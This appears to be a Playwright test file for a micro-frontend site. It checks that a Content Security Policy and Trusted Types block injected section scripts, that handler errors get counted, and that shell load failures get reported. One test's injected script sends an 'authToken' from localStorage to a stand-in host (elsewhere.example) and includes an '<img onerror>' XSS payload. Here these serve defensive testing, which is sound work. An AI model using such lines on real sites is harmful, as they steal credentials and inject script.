import { waitTimeout } from '@keur/config/timeouts'
import type { BuildHealthList } from '@keur/contract/releases'
import { publishCopy } from '../support/published-copy.ts'
import { fromApi } from '../support/site.ts'
import { readPointer } from '../support/stored-build.ts'
import { expect, test } from '../support/test.ts'

test.use({ serviceWorkers: 'block' })

const figuresOf = async (app: string, build: string) => {
  const { verdicts } = await fromApi<BuildHealthList>('/builds/verdicts')
  return verdicts.find(({ remote }) => remote === app)?.lastMonth?.find((figures) => figures.build === build)
}
/** The API sums up every fifteen seconds. */
const soon = { timeout: 2 * waitTimeout, intervals: [500] }

test('what a section does against the policy is blocked, and stored with its build', async ({ page, watch }) => {
  watch.allow(/Content Security Policy/i, /TrustedHTML|TrustedTypePolicy|Policy .* disallowed/i, /elsewhere\.example/)
  const { id, undo } = await publishCopy({
    script: `
      new Image().src = 'https://elsewhere.example/?' + (localStorage.getItem('authToken') ?? 'none')
      const tries = [
        () => trustedTypes.createPolicy('ventes', { createHTML: (text) => text }),
        () => trustedTypes.createPolicy('default', { createHTML: (text) => text }),
        () => { document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>' }
      ]
      self.blocked = tries.filter((attempt) => { try { attempt() } catch { return true } }).length`
  })
  try {
    await page.goto('/ventes')
    expect(await page.evaluate(() => Reflect.get(window, 'blocked'))).toBe(3)
    await expect
      .poll(async () => Object.keys((await figuresOf('ventes', id))?.violations ?? {}).sort(), soon)
      .toEqual(['img-src', 'require-trusted-types-for', 'trusted-types'])
  } finally {
    await undo()
  }
})

test('what a section throws in a handler counts, and the page stays with what was typed', async ({ page, watch }) => {
  watch.allow(/panne d’un bouton/)
  const { id, undo } = await publishCopy({
    script: `addEventListener('click', () => { throw new Error('panne d’un bouton') })`
  })
  try {
    await page.goto('/ventes')
    const search = page.getByRole('searchbox').or(page.getByRole('combobox')).first()
    await search.fill('Thiès')
    await search.click()
    await expect(search).toHaveValue('Thiès')
    await expect.poll(async () => (await figuresOf('ventes', id))?.errors, soon).toBe(1)
    expect((await page.context().cookies()).some(({ name }) => name === 'keur_aside')).toBe(false)
  } finally {
    await undo()
  }
})

test('a shell that does not start is reported, and the next document has another one where there is one', async ({
  page,
  watch
}) => {
  watch.allow(/\/mfe\/shell\//, /Failed to load resource/)
  const { current } = await readPointer('shell')
  await page.route(/\/mfe\/shell\/.*\.js$/, (route) => route.abort())
  const reported = page.waitForRequest('**/api/builds/reports')
  await page.goto('/contact', { waitUntil: 'load' })
  await reported
  await expect
    .poll(async () => (await page.context().cookies()).find(({ name }) => name === 'keur_aside')?.value)
    .toBe(`shell:${current}`)
  // the page can still be read
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
})
